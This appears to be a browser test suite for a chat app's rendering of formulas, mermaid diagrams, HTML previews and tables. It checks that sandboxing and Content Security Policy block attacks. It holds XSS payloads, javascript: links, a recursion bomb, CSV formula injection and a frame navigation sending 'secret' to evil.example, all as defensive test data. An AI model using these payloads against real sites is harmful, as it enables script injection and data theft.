"""What the browser makes of answers: formulas, diagrams, previews, and the tools of code, tables and footnotes."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from playwright.async_api import expect

if TYPE_CHECKING:
    from tests.browser.conftest import OpenTab
    from tests.browser.tab import Tab
    from tests.fake_provider import FakeProviderProcess
    from tests.support.server import Server

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.once]

FORMULAS = """So $x^2$, which is

$$
\\int_0^1 x\\,dx = \\frac12
$$

and costs $5 or $10, and `$y$`. Not $\\frac{1}{$ that.
"""
DIAGRAM = "Look:\n\n```mermaid\nflowchart TD\n  A[One] --> B{Two}\n  B -- yes --> C[Three]\n```\n\nThat is it."
HOSTILE_FORMULAS = "\n\n".join(
    (
        "$\\def\\a{\\a\\a}\\a$",
        "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/x.png}$ $\\url{https://evil.example}$",
        "$\\htmlStyle{position:fixed}{x}$ $\\htmlData{a=b}{x}$ $\\rule{9000em}{9000em}$",
        f"$$\n{'{' * 4_000}x{'}' * 4_000}\n$$",
        f"$$\n{'{' * 100_000}\n$$",
    )
)
HOSTILE_DIAGRAMS = (
    'flowchart TD\n  A["<img src=https://evil.example/x onerror=alert(1)>"] --> B',
    'flowchart TD\n  A --> B\n  click B href "javascript:alert(1)"\n  click A call alert(1)',
    "%%{init: {'securityLevel': 'loose', 'themeCSS': '* { fill: url(https://evil.example/y) }'}}%%\ngraph\n  A-->B",
    "flowchart TD\n  A --> B\n  style B fill:url(https://evil.example/z)",
    'flowchart TD\n  A@{ img: "https://evil.example/image", label: "x", w: 60, h: 60 }\n  A --> B',
)
PAGE = """<p id="p">waiting</p><script>
const said = [origin];
try { localStorage.x = 1 } catch { said.push("no storage") }
try { parent.document.body.append("x") } catch { said.push("no parent") }
document.getElementById("p").textContent = said.join(", ");
</script>"""
WATCH = """() => {
  window.failures = 0;
  const count = (records) => records.forEach(({target}) => { window.failures += target.dataset.diagram === "failed"; });
  new MutationObserver(count).observe(document.body, {attributeFilter: ["data-diagram"], subtree: true});
}"""


async def test_formulas_are_set_while_the_answer_is_written_and_after_a_reload(
    tab: Tab, fake: FakeProviderProcess
) -> None:
    fake.script(text=FORMULAS, chunk=7, delay=0.01)
    await tab.ask("Some mathematics")
    await tab.finish()
    for _ in range(2):
        set_ = tab.last_answer.locator(".math.is-set")
        await expect(set_).to_have_count(2)
        assert await set_.locator("annotation").all_text_contents() == ["x^2", "\\int_0^1 x\\,dx = \\frac12"]
        await expect(tab.last_answer.locator(".math.is-source")).to_have_text("\\frac{1}{")
        assert "costs $5 or $10, and $y$." in await tab.last_answer.inner_text()
        fonts = "[...document.fonts].filter(({status}) => status === 'loaded').map(({family}) => family).join()"
        await tab.until(f"({fonts}).includes('KaTeX_Math')")
        await tab.reload()


async def test_copied_formulas_are_as_they_were_written(tab: Tab, fake: FakeProviderProcess) -> None:
    await tab.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    fake.script(text="So $x^2$ is\n\n$$\ny\n$$\n\nhere.")
    await tab.ask_and_wait("Some mathematics")
    await expect(tab.last_answer.locator(".math.is-set")).to_have_count(2)
    await tab.last_answer.locator(".message-body").evaluate("(body) => getSelection().selectAllChildren(body)")
    await tab.press("Control+c")
    copied = await tab.page.evaluate("navigator.clipboard.readText()")
    assert copied.split() == ["So", "$x^2$", "is", "$$y$$", "here."]


async def test_nothing_of_formulas_and_diagrams_is_loaded_without_one(tab: Tab) -> None:
    requested: list[str] = []
    tab.page.on("request", lambda request: requested.append(request.url))
    await tab.reload()
    await tab.ask_and_wait("Just **words**, for $5.")
    assert requested
    assert [url for url in requested if "vendor" in url or "embed" in url] == []


async def test_hostile_formulas_load_and_link_nothing_and_stay_small(tab: Tab, fake: FakeProviderProcess) -> None:
    fake.script(text=HOSTILE_FORMULAS, chunk=100_000)
    await tab.ask_and_wait("Attack me")
    await expect(tab.last_answer.locator(".math:not(.is-set, .is-source)")).to_have_count(0)
    assert await tab.page.evaluate("document.querySelectorAll('.math :is(a, img, script, iframe)').length") == 0
    assert await tab.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert await tab.page.evaluate("document.documentElement.scrollHeight") < 50_000


async def test_diagram_is_drawn_once_its_block_is_closed(tab: Tab, fake: FakeProviderProcess) -> None:
    await tab.page.evaluate(WATCH)
    fake.script(text=DIAGRAM, chunk=4, delay=0.02)
    await tab.ask_and_wait("Draw it")
    figure = tab.last_answer.locator("figure.code")
    await expect(figure).to_have_attribute("data-diagram", "drawn")
    picture = figure.locator(".diagram img")
    await expect(picture).to_be_visible()
    assert await picture.evaluate("(image) => image.decode().then(() => image.naturalWidth > 50)")
    assert await tab.page.evaluate("window.failures") == 0
    await expect(figure.locator("pre")).to_be_hidden()
    await figure.locator('[data-action="show-source"]').click()
    await expect(figure.locator("pre")).to_contain_text("flowchart TD")
    await expect(picture).to_be_hidden()


async def test_diagram_fits_a_narrow_screen_where_it_stays_readable(tab: Tab, fake: FakeProviderProcess) -> None:
    lines = (
        "```mermaid",
        "sequenceDiagram",
        "participant Browser",
        "participant Server",
        "Browser->>Server: message.send",
        "Server-->>Browser: message.accepted",
        "Note over Server: commits first",
        "```",
    )
    await tab.page.set_viewport_size({"width": 390, "height": 800})
    fake.script(text="\n".join(lines))
    await tab.ask_and_wait("Draw it")
    figure = tab.last_answer.locator('figure[data-diagram="drawn"] .diagram')
    await expect(figure).to_be_visible()
    assert await figure.evaluate("(place) => place.querySelector('img').getAttribute('width') > place.clientWidth")
    assert await figure.evaluate("(place) => place.scrollWidth === place.clientWidth")


async def test_diagram_follows_the_colours_of_the_page(tab: Tab) -> None:
    await tab.ask_and_wait(DIAGRAM)
    picture = tab.last_answer.locator(".diagram img")
    await expect(picture).to_be_visible()
    light = await picture.get_attribute("src")
    await tab.page.emulate_media(color_scheme="dark")
    await expect(picture).not_to_have_attribute("src", light or "")


async def test_what_is_no_diagram_shows_its_source_and_says_so(tab: Tab) -> None:
    await tab.ask_and_wait("```mermaid\nnonsense\n```\n\n" + DIAGRAM)
    figures = tab.last_answer.locator("figure.code")
    await expect(figures.nth(0)).to_have_attribute("data-diagram", "failed")
    await expect(figures.nth(0)).to_contain_text("This diagram could not be drawn. Here is its source.")
    await expect(figures.nth(0).locator("pre")).to_be_visible()
    await expect(figures.nth(1)).to_have_attribute("data-diagram", "drawn")


@pytest.mark.attacks_frames
async def test_hostile_diagram_is_only_a_picture(tab: Tab, fake: FakeProviderProcess) -> None:
    failed: dict[str, str | None] = {}
    tab.page.on("requestfailed", lambda request: failed.update({request.url: request.failure}))
    fake.script(text="\n\n".join(f"```mermaid\n{one}\n```" for one in HOSTILE_DIAGRAMS), chunk=100_000)
    await tab.ask_and_wait("Attack me")
    figures = tab.last_answer.locator("figure.code")
    await expect(figures.and_(tab.page.locator('[data-diagram="waiting"]'))).to_have_count(0)
    assert await figures.and_(tab.page.locator('[data-diagram="drawn"]')).count() >= 1
    assert await figures.locator("svg:not(.icon), a, script, iframe").count() == 0
    sources = await figures.locator(".diagram img[src]").evaluate_all("(all) => all.map((one) => one.src.slice(0, 19))")
    assert set(sources) == {"data:image/svg+xml;"}
    await expect(tab.page.locator("iframe.diagram-frame")).to_have_attribute("sandbox", "allow-scripts")
    # What they wanted to load and to run was refused in the frame, by its policy.
    wanted = [one.removeprefix("foreign request: ") for one in tab.problems if one.startswith("foreign")]
    assert {failed[url] for url in wanted} <= {"csp"}
    refused = [one for one in tab.problems if "Content Security Policy" in one or one.startswith("foreign")]
    assert tab.problems == refused
    tab.problems.clear()


@pytest.mark.attacks_frames
async def test_preview_runs_without_an_origin_and_goes_nowhere(tab: Tab, fake: FakeProviderProcess) -> None:
    fake.script(text=f"```html\n{PAGE}\n```", chunk=100_000)
    await tab.ask_and_wait("A page")
    await tab.action("preview-code").click()
    await expect(tab.page.locator("#preview iframe")).to_have_attribute("sandbox", "allow-scripts")
    inside = tab.page.frame_locator("#preview iframe")
    await expect(inside.locator("#p")).to_have_text("null, no storage, no parent")
    frame = tab.page.frames[-1]
    assert tab.problems == []
    said = await frame.evaluate(f"fetch('{tab.origin}/c/').then(() => 'fetched', () => 'refused')")
    assert said == "refused"
    await frame.evaluate("void (location.href = 'https://evil.example/?d=secret')")
    await tab.until("document.querySelector('#preview iframe')")
    await tab.press("Escape")
    await expect(tab.page.locator("#preview iframe")).to_have_count(0)
    assert tab.problems
    assert all("Content Security Policy" in one for one in tab.problems), tab.problems
    tab.problems.clear()


async def test_table_is_copied_as_csv_without_formulas(tab: Tab) -> None:
    await tab.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    table = '| a | b |\n|---|--:|\n| =1+1 | -5.20 |\n| say "hi", ok | $x^2$ |\n| @x<br>y | +3 % |'
    await tab.ask_and_wait(table)
    await expect(tab.last_answer.locator(".math.is-set")).to_have_count(1)
    await tab.last_answer.locator(".table-scroll").hover()
    await tab.action("copy-table").click()
    copied = await tab.page.evaluate("navigator.clipboard.readText()")
    assert copied.split("\r\n") == ["a,b", "'=1+1,-5.20", '"say ""hi"", ok",x^2', '"\'@x\ny",+3 %', ""]


async def test_code_is_saved_under_its_name(tab: Tab, fake: FakeProviderProcess) -> None:
    fake.script(text='```python title="src/wave.py"\nprint("<b>")\n```')
    await tab.ask_and_wait("Write it")
    async with tab.page.expect_download() as download:
        await tab.action("save-code").click()
    file = await download.value
    assert file.suggested_filename == "wave.py"
    assert (await file.path()).read_text() == 'print("<b>")'


async def test_footnote_and_its_mark_lead_to_each_other(tab: Tab, fake: FakeProviderProcess) -> None:
    fake.script(text="So it is.[^1] Indeed.[^1]\n\nAnd[^7] more.\n\n[^1]: Because.\n", chunk=3)
    await tab.ask_and_wait("Why?")
    links = tab.last_answer.get_by_role("button", name="Footnote 1", exact=True)
    await expect(links).to_have_count(2)
    await links.first.press("Enter")
    back = tab.last_answer.get_by_role("button", name="Back to footnote 1 in the text")
    await expect(back).to_be_focused()
    await back.press("Enter")
    await expect(links.first).to_be_focused()
    await expect(tab.last_answer.get_by_role("button", name="Footnote 7")).to_have_count(0)


async def test_task_says_what_it_is(tab: Tab) -> None:
    await tab.ask_and_wait("- [x] one\n- [ ] two")
    boxes = tab.last_answer.get_by_role("checkbox", disabled=True)
    await expect(boxes).to_have_count(2)
    await expect(boxes.first).to_have_accessible_name("Done")


async def test_answer_opens_as_a_document(tab: Tab, fake: FakeProviderProcess) -> None:
    fake.script(text=FORMULAS)
    await tab.ask_and_wait("Some mathematics")
    await tab.last_answer.locator('[popovertarget="message-menu"]').click()
    await tab.page.get_by_role("menuitem", name="Open as a document").click()
    await tab.page.wait_for_url("**/document/")
    await expect(tab.page.locator(".document .math.is-set")).to_have_count(2)
    await tab.page.get_by_role("link", name="Back to the conversation").click()
    await tab.be_online()
    await expect(tab.messages).to_have_count(2)


async def test_shared_page_shows_the_same(tabs: OpenTab, server: Server, tab: Tab) -> None:
    await tab.ask_and_wait(f"{FORMULAS}\n{DIAGRAM}\n\n| a |\n|---|\n| 1 |")
    await tab.page.locator("#share-talk").click()
    await tab.page.get_by_role("button", name="Create a link").click()
    address = await tab.page.locator("#address").input_value()
    reader = await tabs(server, None, None)
    await reader.page.goto(address)
    await expect(reader.page.locator(".math.is-set")).to_have_count(2)
    await expect(reader.page.locator('[data-diagram="drawn"]')).to_have_count(1)
    await expect(reader.page.locator('[data-action="copy-table"]')).to_have_count(1)
